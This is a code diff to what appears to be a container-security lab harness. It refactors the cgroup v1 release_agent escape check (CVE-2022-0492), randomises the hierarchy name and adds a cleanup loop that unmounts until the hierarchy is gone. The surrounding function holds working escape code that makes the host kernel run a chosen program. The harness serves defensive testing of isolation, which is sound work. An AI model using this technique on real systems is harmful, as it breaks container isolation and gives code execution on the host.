@@ -32,16 +32,15 @@ def core_pattern(volume: str, on_host: str) -> Evidence:
 
 
 @attack(
-    "cgroups(7)", stopped_by=("capabilities",), also=("unshare_user",), disposable=True,
+    "cgroups(7)", stopped_by=("unshare_cgroup", "capabilities"), also=("unshare_user",), disposable=True,
     history="Felix Wilhelm, 2019; CVE-2022-0492: a container with CAP_SYS_ADMIN and control groups of version 1",
 )  # fmt: skip
 def release_agent(volume: str, on_host: str) -> Evidence:
     """Name a program that the kernel runs when a control group is left empty: on the host.  cgroups(7)"""
     program = _program(volume, on_host)
-    place = f"{volume}/groups"
+    place, name = f"{volume}/groups", f"lab{os.urandom(4).hex()}"
     linux.mkdir(place)
-    # A hierarchy without controllers, of a new name: nobody else's groups are in it.
-    linux.mount("cgroup", place, "cgroup", Mount(0), f"none,name=lab{os.getpid()}")
+    _mount_groups(place, name)
     try:
         linux.mkdir(f"{place}/left")
         linux.write_file(f"{place}/release_agent", program)
@@ -54,7 +53,23 @@ def release_agent(volume: str, on_host: str) -> Evidence:
         return _proof(volume)
     finally:
         os.rmdir(f"{place}/left")
-        linux.umount2(place, Umount.DETACH)
+        _forget_groups(place, name)
+
+
+def _mount_groups(place: str, name: str) -> None:
+    """A hierarchy without controllers, of a new name: nobody else's groups are in it.  cgroups(7)"""
+    linux.mount("cgroup", place, "cgroup", Mount(0), f"none,name={name}")
+
+
+def _forget_groups(place: str, name: str) -> None:
+    """Unmount until the hierarchy is gone: it outlives a mount for as long as a group of it is not quite dead."""
+    deadline = time.monotonic() + PATIENCE
+    linux.umount2(place, Umount.DETACH)
+    while name in Path("/proc/self/cgroup").read_text() and time.monotonic() < deadline:
+        time.sleep(0.2)
+        if name in Path("/proc/self/cgroup").read_text():
+            _mount_groups(place, name)
+            linux.umount2(place, Umount.DETACH)
 
 
 def _program(volume: str, on_host: str) -> str:
